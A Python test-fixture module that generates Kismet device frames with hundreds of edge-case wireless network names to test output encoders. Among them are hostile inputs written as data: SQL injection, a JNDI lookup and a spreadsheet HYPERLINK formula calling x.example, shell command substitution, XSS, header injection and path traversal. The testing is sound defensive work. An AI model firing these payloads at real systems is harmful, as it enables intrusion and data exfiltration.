"""The names that strangers choose, as Kismet's frames carry them, and what is left of each.

Every encoder of the program gets them all: exactly one record out for each record in, and the text
that an independent reader gives back is `text` under the encoder's documented transform.

A name comes as the JSON literal that stands in the frame, so that it can hold what no JSON library
would write: bytes that are no UTF-8, lone surrogates. `text` is what the record holds: ill-formed
parts and NUL are U+FFFD, 1 KiB at most, cut on a character; None = nothing (an empty name is none).
"""

import json
import time

import rawkismet

TEXT_BYTES_MAX = 1024


class Name:
    def __init__(self, literal, text):
        self.literal = literal
        self.text = text

    def __repr__(self):
        return f"Name({self.literal[:60]!r})"


def literal(data):
    """The bytes as a JSON string, only what JSON demands escaped."""
    out = bytearray(b'"')
    for byte in data:
        if byte in b'"\\':
            out += b"\\" + bytes([byte])
        elif byte < 0x20:
            out += b"\\u%04x" % byte
        else:
            out.append(byte)
    return bytes(out + b'"')


def kept(text):
    """The text as a record holds it."""
    data = text.replace("\0", "\ufffd").encode()
    return data[:TEXT_BYTES_MAX].decode(errors="ignore") or None


def of(data):
    data = data.encode() if isinstance(data, str) else data
    return Name(literal(data), kept(data.decode(errors="replace")))


SINGLE = [bytes([byte]) for byte in range(256)]

ILL_FORMED = [
    b"\xc0\x80",
    b"\xf5\x80\x80\x80",
    b"\xed\xa0\x80",
    b"\xed\xb0\x80\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\xe2\x82",
    b"abc\xff\xfe",
    b"\xf0\x9f\x98",
    b"\xc3\x28",
]

TEXTS = [
    # 32 bytes, the longest SSID, of what separates
    *(c * 32 for c in "\n\\\"',= #;|\t\r%+/$"),
    # a second record, statement, header, topic, column
    "a\nadmin,x=1 y=1",
    "a\r\nadmin,x=1 y=1 1",
    "x y=1i 1\nz",
    "#comment",
    "# HELP x",
    "\\",
    "\\\\",
    "a\\",
    "a\\\\",
    "a\\\\\\",
    "a\\ ",
    "a\\,b",
    "a\\=b",
    "a\\nb",
    "a\\\nb",
    '"',
    '\\"',
    'a"b\\"c\\\\"d',
    "a,b=c d",
    " leading",
    "trailing ",
    " ",
    " " * 32,
    "\t",
    "a b\tc",
    "=",
    ",",
    "a=,b",
    "');DROP TABLE kismet_devices;--",
    "'; SELECT pg_sleep(10); --",
    "\\.",
    "\\.\n",
    "\\N",
    "NULL",
    "null",
    "true",
    "NaN",
    "-inf",
    "1e400",
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "a\r\nX-Evil: 1\r\n\r\n",
    "DEVICE|AA:BB:CC:DD:EE:FF|x|1|2",
    "a/b/c",
    "#/+",
    "$SYS/broker",
    "../../etc/x",
    "/etc/passwd\0.txt",
    "a\0b",
    "\0",
    "${jndi:ldap://x.example/a}",
    "${HOME}",
    "$(id)",
    "`id`",
    "%n%s%s%p",
    "%00%0a%0d",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "&amp;&lt;",
    "]]>",
    '{"type":"event"}',
    "[]",
    # terminals
    "\x1b]0;x\x07",
    "\x1b[2J",
    "\x1b[31mred\x1b[0m",
    "\x9b31m",
    "\x85next line",
    "a\x08\x08b",
    "a\rb",
    # what cannot be seen, or turns around
    "\u202egnp.exe",
    "\u2028",
    "a\u2028b\u2029c",
    "\ufeff",
    "\ufeffbom",
    "\u200b",
    "\u200d\u200d",
    "\u2066x\u2069",
    "e\u0301",
    "\U000e0041",
    "\U0010ffff",
    "\ufffe",
    "\ud7ff\ue000",
    "\U0001f4a9" * 8,
    "网络",
    "Ñandú",
    # sizes: beyond an SSID, at and beyond a text's limit, on and across a character
    "x" * 255,
    "x" * 256,
    "x" * 1023,
    "x" * 1024,
    "x" * 1025,
    "x" * 10000,
    "é" * 512,
    "x" + "é" * 512,
    "\U0001f4a9" * 256,
    "xyz" + "\U0001f4a9" * 256,
    "," * 10000,
    "\\" * 10000,
    '"' * 1024,
    "\n" * 1024,
    "",
]

ESCAPES = [
    Name(b'"\\ud800"', "\ufffd"),
    Name(b'"a\\udc00b"', "a\ufffdb"),
    Name(b'"\\ud83d\\ude00"', "\U0001f600"),
    Name(b'"\\u0000"', "\ufffd"),
    Name(b'"\\u001b[31m"', "\x1b[31m"),
    Name(b'"\\\\u001b[31m"', "\\u001b[31m"),  # as Kismet writes it: escaped twice
    Name(b'"\\\\n"', "\\n"),
    Name(b'"\\\\xC3"', "\\xC3"),
    Name(b'"\\/\\b\\f"', "/\b\f"),
]

NAMES = [of(data) for data in SINGLE + ILL_FORMED + TEXTS] + ESCAPES
assert len(NAMES) >= 300

TEXT_FIELDS = ("name", "username", "manufacturer", "channel", "device_type", "crypt")


def mac_of(number):
    return rawkismet.mac_of(0x100000 + number)


def device(number, name, fields=TEXT_FIELDS, last_seen=None, **more):
    """A device's frame, one line of bytes, with the name in each of `fields`."""
    seen = int(time.time()) if last_seen is None else last_seen
    plain = {
        "key": "4202770D00000000_" + mac_of(number).replace(":", ""),
        "server_uuid": rawkismet.UUID,
        "mac_addr": mac_of(number),
        "phy_type": "IEEE802.11",
        "first_seen": seen - 60,
        "last_seen": seen,
        "mod_time": seen,
        "total_packets": number,
        **more,
    }
    head = json.dumps(plain)[:-1].encode()
    return head + b"".join(b', "%s": %s' % (f.encode(), name.literal) for f in fields) + b"}"


def devices(fields=TEXT_FIELDS, last_seen=None):
    """[(mac, text, frame)] of all names."""
    return [
        (mac_of(i), name.text, device(i, name, fields, last_seen)) for i, name in enumerate(NAMES)
    ]
